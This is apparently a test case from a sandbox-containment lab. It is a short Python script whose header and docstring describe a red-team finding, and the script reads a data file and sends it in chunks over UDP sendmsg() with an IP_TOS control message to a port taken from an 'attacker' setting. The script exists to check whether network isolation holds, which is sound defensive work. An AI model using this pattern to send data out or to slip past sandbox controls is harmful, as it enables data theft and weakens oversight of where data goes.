# lab:title: Exfiltration by UDP sendmsg() with control data
# lab:threat: exfil
# lab:layer: network
# lab:consequence: test
# adversary: --on all => CONTAINED network ~ control data
# adversary: --on network => CONTAINED network ~ control data
# adversary: --off network => BROKE
"""The red team's round 7, finding 2: sendmsg() with an address and an
IP_TOS control message. The lab does not pass control data on (some of it
is checked against the caller's privileges, not the lab's), so the call
went on as the snippet's own, "result not observed by the lab", and the
run was judged BROKE although No-network's namespace refused every
datagram. The attacker takes TCP only: with the network open, nothing
arrives (BROKE)."""
import os
import socket
import struct
import urllib.parse

u = urllib.parse.urlsplit(os.environ["LAB_ATTACKER"])
body = open(os.environ["LAB_DATA"], "rb").read()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
tos = [(socket.IPPROTO_IP, socket.IP_TOS, struct.pack("i", 0x10))]
try:
    for i in range(0, len(body), 1024):
        s.sendmsg([body[i:i + 1024]], tos, 0, ("127.0.0.1", u.port or 80))
    print("sent", len(body), "bytes", flush=True)
except OSError as e:
    print("refused:", e, flush=True)
